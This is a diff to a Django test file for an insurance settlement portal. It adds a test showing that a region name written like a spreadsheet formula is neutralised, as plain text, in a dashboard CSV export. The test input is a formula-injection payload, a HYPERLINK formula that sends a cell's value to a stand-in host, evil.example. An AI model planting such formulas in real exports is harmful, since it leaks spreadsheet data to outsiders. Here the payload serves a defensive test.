@@ -10,12 +10,12 @@ from decimal import Decimal as D
 import pytest
 from django.urls import reverse
 
+from portal.lib.text import spreadsheet_text
 from portal.models import InsuredPerson
 from settlement import services
-from settlement.hospital_views import spreadsheet_text
 from settlement.models import Settlement
 from tests.settlement.test_hospital_settlements import CHEN, H1, _settle
-from tests.settlement.test_stats import sign_in
+from tests.settlement.test_stats import make_settlements, sign_in, world  # noqa: F401
 
 REASON = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
 
@@ -69,3 +69,21 @@ def test_amounts_stay_numbers_in_the_hospitals_csv_a_negative_one_too(client, de
     rows = _rows(client, demo, status="held_for_review")
     assert rows[1][7:10] == [str(held.total), str(held.fund_pay), str(held.person_pay)]
     assert rows[1][9].startswith("-")
+
+
+@pytest.mark.django_db
+def test_a_region_named_like_a_formula_is_plain_text_in_the_dashboard_csv(
+    client,
+    world,  # noqa: F811 - the fixture
+):
+    from portal.models import Region
+
+    make_settlements(world, 30)
+    Region.objects.filter(code="460200").update(name=REASON)
+    sign_in(client, world["staff"]["232700"].user)
+    client.cookies["django_language"] = "zh-hans"
+    response = client.get(reverse("settlement:dashboard-csv", args=["by-place-of-treatment"]))
+    table = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
+    labels = [row[1] for row in table[1:]]
+    assert "'" + REASON in labels
+    assert "哈尔滨市" in labels  # an ordinary name is as it was
